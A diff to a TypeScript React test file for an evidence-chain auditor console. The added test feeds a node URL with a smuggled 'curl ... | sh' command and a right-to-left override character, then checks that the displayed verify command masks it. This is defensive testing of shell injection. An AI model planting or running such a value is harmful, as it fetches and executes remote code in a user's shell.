@@ -79,7 +79,7 @@ const chain = () =>
   });
 
 /** The console of an auditor: it has no proxy, or one of an institution that takes no part. */
-function serve(proxy: { service: string } | undefined) {
+function serve(proxy: { service: string } | undefined, anchors: object) {
   const node = chain();
   globalThis.fetch = (async (path: string, init?: RequestInit) => {
     if (path === '/v1/rpc') {
@@ -94,8 +94,7 @@ function serve(proxy: { service: string } | undefined) {
       }));
       return new Response(JSON.stringify(await Promise.all(all)));
     }
-    const validators = [`0x${'1f'.repeat(20)}`];
-    const record = { id: '0x1', label: 'court/evidence-chain', chainId: 8601, trustAnchors: { validators } };
+    const record = { id: '0x1', label: 'court/evidence-chain', chainId: 8601, trustAnchors: anchors };
     const answer = path.startsWith('/v1/transactions/')
       ? transaction
       : path.startsWith('/v1/records/subchains/')
@@ -107,8 +106,10 @@ function serve(proxy: { service: string } | undefined) {
   }) as typeof fetch;
 }
 
-async function lines(proxy?: { service: string }): Promise<string[]> {
-  serve(proxy);
+const SEALS = { validators: [`0x${'1f'.repeat(20)}`] };
+
+async function lines(proxy?: { service: string }, anchors: object = SEALS): Promise<string[]> {
+  serve(proxy, anchors);
   const { container } = render(
     <SettingsProvider>
       <QueryClientProvider client={new QueryClient({ defaultOptions: { queries: { retry: false } } })}>
@@ -146,5 +147,17 @@ describe('commands for a step’s evidence', () => {
   it('compare the contract of the version that the step was opened under, as the page does', async () => {
     const verify = (await lines()).find(each => each.includes('evidence verify'));
     expect(verify).toContain(`--step 1 --contract ${FORMER} --chain-id 8601`);
+  }, 60_000);
+
+  it('leave out a node’s URL that would run in the reader’s shell, and say so', async () => {
+    const told = 'http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh;\u202e#';
+    const verify = (await lines(undefined, { rpcUrls: [told] })).find(each =>
+      each.includes('evidence verify'),
+    );
+    expect(verify).toMatch(/ --node https:\/\/\.\.\.$/);
+    const [note] = screen.getAllByRole('note');
+    expect(note?.querySelector('bdi')?.textContent).toBe(
+      '“http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh; #”',
+    );
   }, 60_000);
 });
